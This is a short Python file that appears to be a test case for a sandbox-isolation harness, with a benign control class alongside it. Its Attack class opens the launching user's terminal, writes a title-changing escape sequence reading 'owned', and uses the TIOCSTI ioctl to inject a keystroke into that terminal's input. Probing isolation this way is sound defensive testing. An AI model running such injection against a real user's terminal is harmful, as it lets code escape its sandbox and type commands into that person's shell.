"""Goal: type into the terminal of whoever started the harness.

TIOCSTI puts characters into its input, as if they had been typed.
"""

import fcntl
import os
import termios

from kit import Chance, attempt, facts

WITHOUT_ISOLATION = "the terminal"
ROOT = True


class Attack(Chance):
    def __init__(self):
        for path in ("/dev/tty", facts.terminal):
            with attempt(f"write on {path}"):
                terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
                os.write(terminal, b"\x1b]0;owned\7")
                fcntl.ioctl(terminal, termios.TIOCSTI, b"x")


class Honest(Chance):
    """Asks how wide the terminal is."""

    def __init__(self):
        import shutil

        assert shutil.get_terminal_size().columns
